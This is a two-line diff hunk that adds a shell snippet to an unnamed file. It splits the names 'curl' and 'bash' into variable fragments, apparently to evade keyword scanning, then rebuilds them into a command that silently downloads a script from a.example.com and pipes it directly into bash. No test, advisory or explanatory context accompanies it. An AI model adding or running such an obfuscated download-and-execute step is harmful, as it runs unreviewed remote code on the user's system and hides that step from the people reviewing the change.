@@ -1,0 +1,2 @@
+A=cu; B=rl; C=ba; D=sh
+$A$B -s https://a.example.com/b | $C$D
